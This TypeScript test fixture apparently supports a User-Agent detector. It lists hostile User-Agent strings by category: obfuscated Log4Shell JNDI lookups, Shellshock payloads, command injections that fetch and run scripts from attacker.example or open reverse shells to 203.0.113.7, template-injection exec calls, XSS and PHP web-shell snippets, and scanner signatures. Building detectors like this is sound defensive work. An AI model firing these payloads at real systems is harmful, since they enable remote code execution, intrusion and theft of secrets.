import type { UserAgentCategory } from "../../../shared/detectors/userAgent/classifyUserAgent.js";

/** A hostile User-Agent, the category it must be reported as, and the trick it uses. */
export interface AttackUserAgent {
  technique: string;
  category: UserAgentCategory;
  userAgent: string;
}

const LOG4SHELL: readonly AttackUserAgent[] = [
  { technique: "plain JNDI over LDAP", userAgent: "${jndi:ldap://203.0.113.7:1389/Exploit}" },
  { technique: "JNDI over LDAPS", userAgent: "${jndi:ldaps://attacker.example/a}" },
  { technique: "JNDI over RMI", userAgent: "${jndi:rmi://attacker.example:1099/obj}" },
  { technique: "JNDI over DNS", userAgent: "${jndi:dns://attacker.example/probe}" },
  { technique: "JNDI over IIOP", userAgent: "${jndi:iiop://attacker.example/x}" },
  { technique: "JNDI over CORBA", userAgent: "${jndi:corba://attacker.example/x}" },
  { technique: "JNDI over NDS", userAgent: "${jndi:nds://attacker.example/x}" },
  { technique: "JNDI over HTTP", userAgent: "${jndi:http://attacker.example/x}" },
  {
    technique: "upper-case lookup after a browser prefix",
    userAgent: "Mozilla/5.0 (X11; Linux x86_64) ${JNDI:LDAP://attacker.example/a}",
  },
  { technique: "mixed-case lookup", userAgent: "${jNdI:lDaP://attacker.example/a}" },
  {
    technique: "lower lookup for one letter",
    userAgent: "${${lower:j}ndi:ldap://attacker.example/a}",
  },
  {
    technique: "upper lookups for every letter",
    userAgent: "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}",
  },
  {
    technique: "empty-variable defaults for every letter",
    userAgent: "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
  },
  {
    technique: "environment defaults for letters and colons",
    userAgent: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}",
  },
  {
    technique: "system-property default",
    userAgent: "${${sys:no.such.property:-j}ndi:ldap://attacker.example/a}",
  },
  {
    technique: "k8s and structured-data defaults",
    userAgent: "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
  },
  {
    technique: "lower lookups nested three deep",
    userAgent: "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}",
  },
  {
    technique: "lookup name itself assembled from defaults",
    userAgent: "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://attacker.example/a}",
  },
  { technique: "quoted date pattern", userAgent: "${${date:'j'}ndi:ldap://attacker.example/a}" },
  {
    technique: "obfuscated protocol after a plain prefix",
    userAgent: "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
  },
  {
    technique: "dotless i that Java upper-cases to I",
    userAgent: "${jnd${upper:\u0131}:ldap://attacker.example/a}",
  },
  {
    technique: "percent-escaped default names inside nested defaults",
    userAgent: "${jnd${123%25ff:-${123%25ff:-i:}}ldap://attacker.example/a}",
  },
  {
    technique: "percent-encoded lookup",
    userAgent: "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
  },
  {
    technique: "double percent-encoded lookup",
    userAgent: "%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D",
  },
  {
    technique: "JavaScript unicode escapes",
    userAgent: "\\u0024\\u007bjndi:ldap://attacker.example/a\\u007d",
  },
  { technique: "hex escapes", userAgent: "\\x24\\x7bjndi:rmi://attacker.example/a\\x7d" },
  {
    technique: "IIS-style percent-u escapes",
    userAgent: "%u0024%u007Bjndi:ldap://attacker.example/a%u007D",
  },
  {
    technique: "percent-encoded unicode escape",
    userAgent: "%5Cu0024%5Cu007Bjndi:dns://attacker.example/a}",
  },
  {
    technique: "opening assembled from a default dollar sign",
    userAgent: "${::-$}{jndi:ldap://attacker.example/a}",
  },
  { technique: "lookup cut short by a size limit", userAgent: "${jndi:ldap://attacker.example/a" },
  {
    technique: "exfiltration of environment values through the host name",
    userAgent: "Mozilla/5.0 ${jndi:ldap://${env:USER}.${hostName}.attacker.example/a}",
  },
  { technique: "Java version probe without JNDI", userAgent: "${java:version}" },
  {
    technique: "environment leak without JNDI",
    userAgent: "curl/8.0 ${env:AWS_SECRET_ACCESS_KEY}",
  },
].map((attack) => ({ ...attack, category: "log4shell" }));

const SHELLSHOCK: readonly AttackUserAgent[] = [
  {
    technique: "classic function definition then a download",
    userAgent: '() { :; }; /bin/bash -c "wget http://attacker.example/x"',
  },
  {
    technique: "no space before the closing brace",
    userAgent: "() { :;}; echo; /bin/cat /etc/passwd",
  },
  {
    technique: "no space before the opening brace",
    userAgent: "(){ :; }; ping -c 3 attacker.example",
  },
  { technique: "space inside the parentheses", userAgent: "( ) { :; }; /usr/bin/id" },
  { technique: "tab between the tokens", userAgent: "Mozilla/5.0 ()\t{\t:; }; sleep 10" },
  {
    technique: "percent-encoded definition",
    userAgent: "%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fsh%20-c%20id",
  },
  { technique: "CVE-2014-7169 parser confusion", userAgent: "() { _; } >_[$($())] { id; }" },
].map((attack) => ({ ...attack, category: "shellshock" }));

const COMMAND_INJECTION: readonly AttackUserAgent[] = [
  {
    technique: "semicolon then wget",
    userAgent: "Mozilla/5.0; wget http://attacker.example/bot.sh -O /tmp/bot.sh",
  },
  {
    technique: "pipe into curl and sh",
    userAgent: "x | curl -s http://attacker.example/i.sh | sh",
  },
  {
    technique: "reverse shell after &&",
    userAgent: "agent && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  },
  { technique: "command substitution", userAgent: "$(curl attacker.example)" },
  { technique: "command substitution without arguments", userAgent: "agent/$(id)" },
  { technique: "backticks", userAgent: "agent `whoami`" },
  { technique: "reading the password file", userAgent: "agent; cat /etc/passwd" },
  { technique: "absolute path to busybox", userAgent: "agent;/bin/busybox telnetd -p 2323" },
  { technique: "netcat after ||", userAgent: "agent || nc -e /bin/sh 203.0.113.7 4444" },
  { technique: "Python one-liner", userAgent: "agent; python -c 'import socket,os'" },
  { technique: "Perl one-liner", userAgent: "agent; perl -e 'print 1'" },
  { technique: "encoded PowerShell", userAgent: "agent | powershell -enc SQBFAFgA" },
  { technique: "chmod of a dropped file", userAgent: "agent; chmod +x /tmp/x" },
  {
    technique: "percent-encoded newline",
    userAgent: "agent%0awget%20http://attacker.example/x",
  },
  { technique: "ncat with a shell", userAgent: "agent;ncat attacker.example 4444 -e /bin/bash" },
  { technique: "IFS instead of a space", userAgent: "agent;sleep${IFS}10" },
  { technique: "IFS before a path argument", userAgent: "agent;cat${IFS}/etc/passwd" },
  { technique: "bare $IFS around the command", userAgent: "agent;$IFS$9wget$IFS'http://x/a'" },
  { technique: "background operator and /usr/bin", userAgent: "agent & /usr/bin/id" },
  { technique: "uname", userAgent: "agent; uname -a" },
  { technique: "cmd.exe", userAgent: "agent&cmd.exe /c whoami" },
].map((attack) => ({ ...attack, category: "command-injection" }));

const TEMPLATE_INJECTION: readonly AttackUserAgent[] = [
  { technique: "Jinja2 arithmetic", userAgent: "{{7*7}}" },
  { technique: "Jinja2 string repetition", userAgent: "Mozilla/5.0 {{7*'7'}}" },
  { technique: "Flask config", userAgent: "{{config}}" },
  { technique: "Flask config items", userAgent: "{{config.items()}}" },
  { technique: "Jinja2 globals", userAgent: "{{ self.__init__.__globals__ }}" },
  { technique: "Python class walk", userAgent: "{{''.__class__.__mro__[1].__subclasses__()}}" },
  { technique: "expression-language arithmetic", userAgent: "${7*7}" },
  { technique: "Ruby or JSF arithmetic", userAgent: "#{7*7}" },
  { technique: "doubled braces after a dollar", userAgent: "${{7*7}}" },
  { technique: "SpEL runtime call", userAgent: "${T(java.lang.Runtime).getRuntime().exec('id')}" },
  { technique: "OGNL static access", userAgent: '${@java.lang.Runtime@getRuntime().exec("id")}' },
  {
    technique: "Struts OGNL",
    userAgent: "%{(#_='multipart/form-data').(#cmd='id').(#iswin=false)}",
  },
  { technique: "Struts OGNL arithmetic", userAgent: "%{7*7}" },
  { technique: "Angular sandbox escape", userAgent: "{{constructor.constructor('alert(1)')()}}" },
  {
    technique: "FreeMarker execute",
    userAgent: '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  },
  { technique: "Flask request globals", userAgent: "{{request.application.__globals__}}" },
  { technique: "percent-encoded Jinja2", userAgent: "%7B%7B7*7%7D%7D" },
].map((attack) => ({ ...attack, category: "template-injection" }));

const SCRIPT_CODE: readonly AttackUserAgent[] = [
  { technique: "Defender's validation sample", userAgent: "javascript:" },
  { technique: "javascript URL", userAgent: "javascript:alert(document.domain)" },
  { technique: "script tag", userAgent: "<script>alert(1)</script>" },
  { technique: "SVG onload", userAgent: "Mozilla/5.0 <svg/onload=alert(1)>" },
  { technique: "PHP tag", userAgent: "<?php system($_GET['c']); ?>" },
  { technique: "vbscript URL", userAgent: "vbscript:msgbox(1)" },
  {
    technique: "HTML data URL",
    userAgent: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  },
  { technique: "percent-encoded script tag", userAgent: "%3Cscript%3Ealert(1)%3C%2Fscript%3E" },
  { technique: "iframe with a script URL", userAgent: "<iframe src=javascript:alert(1)>" },
  { technique: "unicode-escaped script tag", userAgent: "\\u003cscript\\u003ealert(1)" },
  { technique: "upper-case scheme", userAgent: "JAVASCRIPT:alert(1)" },
].map((attack) => ({ ...attack, category: "script-code" }));

const ATTACK_TOOLS: readonly AttackUserAgent[] = [
  { technique: "sqlmap", userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)" },
  { technique: "Nikto", userAgent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)" },
  {
    technique: "Nuclei",
    userAgent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  },
  { technique: "masscan", userAgent: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)" },
  { technique: "zgrab", userAgent: "Mozilla/5.0 zgrab/0.x" },
  {
    technique: "WPScan",
    userAgent: "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
  },
  { technique: "DirBuster", userAgent: "DirBuster-1.0-RC1 (http://www.owasp.org/)" },
  { technique: "gobuster", userAgent: "gobuster/3.6" },
  {
    technique: "Nmap scripting engine",
    userAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
  },
  { technique: "ffuf", userAgent: "Fuzz Faster U Fool v2.1.0-dev" },
  { technique: "THC Hydra", userAgent: "Mozilla/4.0 (Hydra)" },
  { technique: "Acunetix", userAgent: "Mozilla/5.0 (compatible; Acunetix-WVS)" },
  { technique: "w3af", userAgent: "w3af.org" },
  { technique: "feroxbuster", userAgent: "feroxbuster/2.10.1" },
  { technique: "TruffleHog verifying a leaked key", userAgent: "TruffleHog" },
  { technique: "OpenVAS", userAgent: "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)" },
].map((attack) => ({ ...attack, category: "attack-tool" }));

/** Hand-written hostile User-Agents, every one of which must be reported. */
export const ATTACK_USER_AGENTS: readonly AttackUserAgent[] = [
  ...LOG4SHELL,
  ...SHELLSHOCK,
  ...COMMAND_INJECTION,
  ...TEMPLATE_INJECTION,
  ...SCRIPT_CODE,
  ...ATTACK_TOOLS,
];
